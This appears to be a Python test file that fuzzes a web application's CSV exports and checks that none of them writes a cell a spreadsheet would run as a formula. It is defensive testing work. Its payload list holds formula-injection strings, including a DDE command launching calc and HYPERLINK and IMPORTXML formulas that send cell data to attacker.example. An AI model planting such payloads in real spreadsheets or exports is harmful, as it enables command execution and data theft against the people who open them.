"""Exports and formulas: ten thousand made-up texts through each export, no cell that would run."""

import csv
import random
from io import StringIO
from itertools import islice

import pytest
from django.test import Client

from people import services as people
from tests.attack import routes
from tests.given import BY
from workspaces import exports

VALUES = 10_000
SEED = 20261123
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    '"',
    "|",
    "%",
    ";",
    ",",
    "\0",
]
BODIES = [
    "cmd|' /C calc'!A0",
    "1+1",
    'HYPERLINK("http://attacker.example/"&A1)',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://attacker.example",A1),"//a")',
    "Alex One",
    "-2",
]
BLANKS = ["", " ", "  ", "\u00a0", "\ufeff", "\u200b", "\u3000", "\u2003", "\x0b", "\x1f", "\u202e"]
# What a spreadsheet skips before it decides: its idea of blank, and characters that show nothing.
SKIPPED = "".join(BLANKS) + "\u200c\u200d\u2060"


def texts(seed: int = SEED):
    """Blanks, starts of formulas and bodies, in any order; and any characters."""
    chance = random.Random(seed)
    while True:
        parts = [chance.choice(each) for each in (BLANKS, STARTS, BLANKS, STARTS, BODIES)]
        if chance.random() < 0.4:
            parts = chance.sample(parts, chance.randint(1, 5))
        if chance.random() < 0.2:
            parts.insert(0, chr(chance.choice([*range(1, 0x300), *range(0xFF00, 0xFFEF)])))
        yield "".join(parts)


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula; a judge of its own."""
    return cell.lstrip(SKIPPED)[:1] in tuple("=+-@＝＋－＠") or cell[:1] in tuple("\t\r\n")


def cells(text: str):
    rows = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))
    return [cell for row in rows for cell in row]


def test_none_of_ten_thousand_texts_is_written_as_a_formula():
    tried = list(islice(texts(), VALUES))
    written = cells("".join(exports.lines(["Text"], ([each] for each in tried))))[1:]
    formulas = [cell for cell in written if runs(cell)]
    print(
        f"{VALUES} texts, {sum(map(runs, tried))} would run, {len(formulas)} formula cells, seed {SEED}"
    )
    assert sum(map(runs, tried)) > VALUES / 3
    assert formulas == []
    assert [exports.unguarded(cell) for cell in written] == tried


def test_judge_sees_formulas_where_nothing_guards(monkeypatch):
    monkeypatch.setattr(exports, "guarded", str)
    tried = list(islice(texts(), 500))
    written = cells("".join(exports.lines(["Text"], ([each] for each in tried))))
    assert any(map(runs, written))


EXPORTS = sorted(
    name
    for name in routes.policy()
    if "export" in name or name.endswith("_csv") or "template" in name
)


@pytest.mark.django_db
def test_no_export_writes_a_formula(companies):
    """The real pages, over names, ids and addresses that are formulas."""
    here, _ = companies
    made = texts(SEED + 1)
    for n in range(40):
        name, key = (
            next(each for each in made if each.strip() and each.isprintable()) for _ in "12"
        )
        people.add(here.workspace, name=f"{name}"[:200], external_id=f"{key} {n}"[:100], by=BY)
    client, looked = Client(), {}
    client.force_login(here.users["admin"])
    for name in EXPORTS:
        (route,) = [each for each in routes.routes() if each.name == name]
        answer = client.get(route.path(""))
        assert answer["Content-Type"].startswith("text/csv"), name
        found = cells(b"".join(answer.streaming_content).decode())
        looked[name] = len(found)
        assert [cell for cell in found if runs(cell)] == [], name
    print(looked)
    assert len(EXPORTS) >= 6
    assert sum(looked.values()) > 500
